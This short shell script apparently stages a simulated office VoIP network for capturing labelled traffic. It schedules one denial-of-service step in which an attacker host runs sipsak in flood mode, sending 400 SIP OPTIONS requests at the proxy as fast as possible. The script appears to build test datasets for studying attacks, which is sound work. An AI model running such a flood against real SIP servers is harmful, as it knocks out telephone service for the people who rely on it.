# sipsak in flood mode: OPTIONS to the proxy as fast as it can.
relocate example.net 5060 10.148.60 198.51.100 198.18.117
EXTENSIONS=(6601 6602 6603 6604 6605)
EXISTING='^66[0-1][0-9]$'
WEAK=none
open_office
add_attacker flooder 198.18.117.25
start_office_capture
keep_alive 8
office_day 411 50
at 21 attack A1 dos flooder 0 "sipsak sends 400 OPTIONS to the proxy as fast as it can." \
    "$(version_of sipsak)" sipsak -F -e 400 --local-ip=198.18.117.25 -H 198.18.117.25 -s sip:10.148.60.1
play
wait "${pid_of[A1]}" || true
close_office
